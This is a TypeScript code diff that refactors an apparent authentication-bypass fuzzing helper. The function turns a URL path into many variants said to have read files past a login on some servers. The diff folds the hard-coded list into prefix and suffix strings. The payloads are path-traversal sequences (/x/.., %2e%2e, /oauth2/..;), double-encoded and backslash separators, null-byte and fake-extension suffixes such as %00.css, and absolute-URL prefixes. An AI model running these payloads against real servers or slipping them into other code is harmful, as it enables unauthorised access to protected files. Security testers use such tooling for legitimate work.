@@ -1,56 +1,23 @@
+const prefixes =
+  '/ /x/.. /x/%2e%2e /x/%2E%2E /.. /%2e%2e /oauth2/.. /oauth2/%2e%2e /oauth2/auth/.. /oauth2%2f.. /oauth2/..; ' +
+  'http://127.0.0.1 http://elsewhere.example';
+const suffixes = '/ . %20 %00 %00.css /. /.. /x/.. ; ;x=.css ? ?/oauth2/auth #x .br .gz ~';
+
 /** Other ways to write an address, with which files were read past a login on one server or another. */
 export function pathTricks(address: string): string[] {
   const [, ...parts] = address.split('/');
-  const name = parts.at(-1) ?? '';
-  const folder = address.slice(1, address.length - name.length);
-  const upper = address.toUpperCase();
-  const escaped = [...address].map((letter) => (letter === '/' ? letter : `%${hex(letter)}`)).join('');
+  const escaped = parts.map((part) => Buffer.from(part).toString('hex').replace(/../g, '%$&'));
   return [
-    `/${address}`,
-    `//${parts.join('//')}`,
-    `/./${parts.join('/./')}`,
-    `/x/..${address}`,
-    `/x/%2e%2e${address}`,
-    `/x/%2E%2E/${folder}${name}`,
-    `/..${address}`,
-    `/%2e%2e${address}`,
-    `/oauth2/..${address}`,
-    `/oauth2/%2e%2e${address}`,
-    `/oauth2/auth/..${address}`,
-    `/oauth2%2f..${address}`,
-    `/oauth2/..;${address}`,
+    ...prefixes.split(' ').map((prefix) => prefix + address),
+    ...suffixes.split(' ').map((suffix) => address + suffix),
+    ...['//', '/./', '\\'].map((slash) => slash + parts.join(slash)),
+    ...['%5c', '%2f'].map((slash) => `/${slash}${parts.join(slash)}`),
+    ...['%2F', '%252f'].map((slash) => `/${parts.join(slash)}`),
+    address.replace(/\/(?=[^/]*$)/, '/.%2f'),
     `/oauth2\\..\\${parts.join('\\')}`,
-    `\\${parts.join('\\')}`,
-    `/%5c${parts.join('%5c')}`,
-    `/%2f${parts.join('%2f')}`,
-    `/${parts.join('%2F')}`,
-    `/${parts.join('%252f')}`,
-    `/${folder}.%2f${name}`,
-    `${address}/`,
-    `${address}.`,
-    `${address}%20`,
-    `${address}%00`,
-    `${address}%00.css`,
-    `${address}/.`,
-    `${address}/..`,
-    `${address}/x/..`,
-    `${address};`,
-    `${address};x=.css`,
-    `${address}?`,
-    `${address}?/oauth2/auth`,
-    `${address}#x`,
-    `${address}.br`,
-    `${address}.gz`,
-    `${address}~`,
-    escaped,
-    upper,
-    `http://127.0.0.1${address}`,
-    `http://elsewhere.example${address}`,
+    `/${escaped.join('/')}`,
+    address.toUpperCase(),
   ];
-}
-
-function hex(letter: string): string {
-  return letter.charCodeAt(0).toString(16).padStart(2, '0');
 }
 
 /** Headers with which some servers let one in, or that change what an answer is. */
